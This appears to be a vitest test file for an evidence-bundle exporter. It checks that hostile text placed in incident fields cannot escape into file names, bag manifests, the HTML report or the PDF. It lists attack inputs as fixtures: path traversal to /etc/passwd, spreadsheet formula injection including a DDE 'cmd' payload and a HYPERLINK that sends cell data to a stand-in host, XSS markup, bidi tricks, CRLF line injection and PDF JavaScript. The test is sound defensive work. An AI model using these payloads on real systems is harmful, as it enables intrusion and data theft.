import { PDFDict, PDFDocument, PDFName } from '@cantoo/pdf-lib';
import { beforeAll, describe, expect, test } from 'vitest';
import { fileName } from '../../src/evidence/file-name.ts';
import { canonical, type Json } from '../../src/evidence/canonical.ts';
import { headOf, linesFor, type Entry } from '../../src/evidence/chain.ts';
import { capturedBody } from '../../src/evidence/incident.ts';
import type { Capture, Incident } from '../../src/evidence/record.ts';
import { coveredWords, redactedCopy } from '../../src/evidence/redact.ts';
import { reportPdf } from '../../src/evidence/report-pdf.ts';
import { verify } from '../../src/evidence/verify.ts';
import { aBag, anIncident, bundleOf, made } from './made.ts';

/** What somebody may call themselves, a post or a page, to get at whoever opens the file. */
const hostile: [what: string, words: string][] = [
  ['a path', '../../../etc/passwd'],
  ['a path of Windows', '..\\..\\C:\\CON.txt'],
  ['a formula', '=HYPERLINK("https://larkfield.example?"&A1,"open")'],
  ['a formula that runs', "+cmd|' /C calc'!A0"],
  ['a formula after a tab', '\t@SUM(1+1)*cmd'],
  ['markup', '</p></td><script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['an attribute', '" onmouseover="alert(1)" x=\''],
  ['a comment', '--><!--[if IE]><script>1</script><![endif]-->'],
  ['an address that runs', 'javascript:alert(1)//https://x.com'],
  ['words turned round', '\u202etxt.exe\u2066 \u2069'],
  ['a line of its own', 'one\r\nPayload-Oxum: 1.1\r\n\r\nLanyard-Redacted-From: ' + 'a'.repeat(64)],
  ['a manifest line', `x\n${'0'.repeat(64)}  data/other.png`],
  ['half a letter and a nought', '\ud800 \u0000 \u0007'],
  ['a PDF', ') Tj ET /JS (app.alert(1)) /S /JavaScript'],
  ['much of it', '𓀀'.repeat(2000)],
];

async function anIncidentOf(words: string): Promise<Incident> {
  const incident = await anIncident();
  const capture: Capture = {
    ...incident.captures[0]!,
    page: { address: words, title: words },
    account: words,
    thread: words,
    posts: [{ author: words, handle: words, text: words, time: words, link: words }],
    notes: [words],
  };
  const log: Entry[] = [];
  for (const [kind, body] of [
    ['opened', { title: words }],
    ['captured', capturedBody(capture, {})],
    ['told', { whom: words, words }],
    ['reported', { site: words, reference: words }],
    ['exported', { to: words, seal: words }],
  ] as const)
    log.push(...(await linesFor(headOf(log), made, kind, body)));
  const said = { title: words, by: words, school: words, what: words, since: words, who: words };
  return { ...incident, ...said, captures: [capture], log };
}

const decode = (bytes: Uint8Array | undefined): string => new TextDecoder().decode(bytes);
/** As JSON gives it back: half a letter has no form there. */
const asWritten = (words: string): string => JSON.parse(canonical(words)) as string;
/** As people see it: what turns or cannot be seen by its number. */
const shown = (words: string): string =>
  asWritten(words).replace(
    /[\u202a-\u202e\u2066-\u2069\u0000\u0007]/g,
    (sign) => `[U+${sign.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}]`,
  );

describe.each(hostile)('%s, written wherever anybody can write', (_what, words) => {
  let incident: Incident;
  let bag: Map<string, Uint8Array>;
  beforeAll(async () => {
    incident = await anIncidentOf(words);
    const pdf = await reportPdf(incident, made, undefined, {
      pictures: async () => [],
      words: async () => ({ png: dot, width: 10, height: 12 }),
    });
    bag = await aBag(incident, [{ path: 'data/report.pdf', bytes: pdf }]);
  });

  test('names no file, and the bag is a bag', async () => {
    for (const path of bag.keys())
      expect(path).toMatch(/^(?:data\/(?:pictures\/|text\/)?)?[a-z0-9.-]{1,80}$/);
    expect(fileName('lanyard', words.slice(0, 8), 'x')).toMatch(/^[a-z0-9-]{1,80}$/);
    const { checks } = await verify(bundleOf(bag));
    expect(checks.filter(({ what, state }) => state === 'bad' && what !== 'log')).toEqual([]);
    expect(checks.find(({ what }) => what === 'redaction')?.state).toBe('absent');
  });

  test('stands in incident.json letter for letter', () => {
    const read = JSON.parse(decode(bag.get('data/incident.json'))) as { incident: Incident };
    expect(read.incident.title).toBe(asWritten(words));
    expect(read.incident.captures[0]!.posts[0]!.text).toBe(asWritten(words));
    expect(canonical(read.incident.log as unknown as Json)).toBe(canonical(incident.log as unknown as Json));
  });

  test('makes no line of its own in bag-info.txt and the manifests', () => {
    const labels = decode(bag.get('bag-info.txt'))
      .trimEnd()
      .split('\n')
      .map((line) => line.split(':')[0]);
    expect(new Set(labels).size).toBe(labels.length);
    for (const label of labels)
      expect(label).toMatch(
        /^(?:Source-Organization|Contact-Name|External-Description|Bagging-Date|External-Identifier|Payload-Oxum|Lanyard-Log-Lines|Lanyard-Log-Head)$/,
      );
    const paths = decode(bag.get('manifest-sha256.txt')).trimEnd().split('\n');
    expect(paths).toHaveLength([...bag.keys()].filter((path) => path.startsWith('data/')).length);
  });

  test('is words in report.html, and nothing else', () => {
    const page = new DOMParser().parseFromString(decode(bag.get('data/report.html')), 'text/html');
    expect(
      page.querySelectorAll('script, a, iframe, object, form, link, base, [onerror], [onmouseover]'),
    ).toHaveLength(0);
    expect(page.querySelectorAll('img')).toHaveLength(1);
    expect(page.querySelector('h1')!.textContent!.replace(/\s+/g, ' ').trim()).toBe(
      shown(words).replace(/\s+/g, ' ').trim(),
    );
    expect(page.body.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u0000-\u0008]/);
  });

  test('is gone from a covered copy where it is covered, and is words in it where it is not', async () => {
    for (const covered of [words, 'Bramble']) {
      const copy = await redactedCopy(incident, { words: [covered], without: new Set() }, made);
      const copied = await aBag(copy.incident);
      const report = decode(copied.get('data/report.html'));
      const page = new DOMParser().parseFromString(report, 'text/html');
      expect(
        page.querySelectorAll('script, a, iframe, object, form, link, base, [onerror], [onmouseover]'),
      ).toHaveLength(0);
      expect(page.body.textContent).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u0000-\u0008]/);
      const [capture] = copy.incident.captures;
      expect(capture!.posts[0]!.author!.trim()).toBe(covered === words ? coveredWords : words.trim());
      expect(copy.incident.title.replace(/\s+/g, ' ')).toBe(
        `Covered copy: ${covered === words ? coveredWords : words}`.replace(/\s+/g, ' '),
      );
      const { checks } = await verify(bundleOf(copied));
      expect(checks.filter(({ state }) => state === 'bad')).toEqual([]);
    }
  });

  test('is nothing that a reader of PDF could run or follow', async () => {
    const pdf = await PDFDocument.load(bag.get('data/report.pdf')!);
    const kinds = pdf.context
      .enumerateIndirectObjects()
      .flatMap(([, object]) => (object instanceof PDFDict ? object.keys().map((key) => key.toString()) : []));
    expect(kinds.filter((key) => /^\/(?:JS|JavaScript|OpenAction|AA|URI|Launch|A)$/.test(key))).toEqual([]);
    for (const page of pdf.getPages()) expect(page.node.Annots()?.size() ?? 0).toBe(0);
    expect(pdf.catalog.get(PDFName.of('OpenAction'))).toBeUndefined();
    expect(pdf.getPageCount()).toBeGreaterThan(0);
  });
});

const dot = Uint8Array.from(
  atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='),
  (sign) => sign.charCodeAt(0),
);
